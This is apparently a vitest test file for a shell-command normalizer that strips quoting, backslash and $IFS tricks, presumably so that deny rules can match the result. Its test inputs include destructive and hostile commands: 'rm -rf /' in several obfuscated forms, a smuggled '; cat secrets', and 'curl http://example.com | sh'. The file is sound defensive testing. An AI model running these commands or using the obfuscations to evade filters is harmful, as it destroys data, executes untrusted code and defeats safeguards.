import { expect, test } from 'vitest';
import { buildMatchViews, collapseWhitespace, dequoteCommand } from './normalize-command.ts';

// ── dequoteCommand ──────────────────────────────────────────────────────────

test('it removes single and double quotes around words', () => {
  expect(dequoteCommand(`"rm" -rf '/'`)).toBe('rm -rf /');
});

test('it joins a word split by empty quotes', () => {
  expect(dequoteCommand(`r''m -rf /`)).toBe('rm -rf /');
});

test('it drops an unquoted backslash escape', () => {
  expect(dequoteCommand('\\r\\m -rf /')).toBe('rm -rf /');
});

test('it keeps backslashes inside single quotes literally', () => {
  expect(dequoteCommand("echo 'a\\nb'")).toBe('echo a\\nb');
});

test('it unescapes a quote inside double quotes', () => {
  expect(dequoteCommand('echo "say \\"hi\\""')).toBe('echo say "hi"');
});

test('it keeps a backslash before an ordinary character inside double quotes', () => {
  expect(dequoteCommand('echo "a\\tb"')).toBe('echo a\\tb');
});

test('it treats ANSI-C quoted content as literal text', () => {
  expect(dequoteCommand("$'sudo' ls")).toBe('sudo ls');
});

test('it lets a backslash escape a quote inside ANSI-C quoting', () => {
  expect(dequoteCommand("echo $'\\'' ; cat secrets")).toBe("echo ' ; cat secrets");
});

test('it runs an unterminated quote to the end of the command', () => {
  expect(dequoteCommand('echo "unterminated')).toBe('echo unterminated');
});

// ── collapseWhitespace ──────────────────────────────────────────────────────

test('it collapses runs of spaces and tabs into one space and trims the ends', () => {
  expect(collapseWhitespace('  rm \t -rf    /  ')).toBe('rm -rf /');
});

test('it leaves newlines in place', () => {
  expect(collapseWhitespace('ls\n  pwd')).toBe('ls\n pwd');
});

// ── buildMatchViews ─────────────────────────────────────────────────────────

test('it returns a single view when the command has no quoting', () => {
  expect(buildMatchViews('ls   -la')).toStrictEqual(['ls -la']);
});

test('it returns the raw and dequoted views when quoting changes the text', () => {
  expect(buildMatchViews(`echo 'a  b'`)).toStrictEqual([`echo 'a b'`, 'echo a b']);
});

test('it expands $IFS into a space', () => {
  expect(buildMatchViews('rm${IFS}-rf${IFS}/')).toStrictEqual(['rm -rf /']);
  expect(buildMatchViews('rm$IFS-rf$IFS/')).toStrictEqual(['rm -rf /']);
});

test('it joins backslash line continuations', () => {
  expect(buildMatchViews('curl http://example.com \\\n| sh')).toStrictEqual([
    'curl http://example.com | sh',
  ]);
});
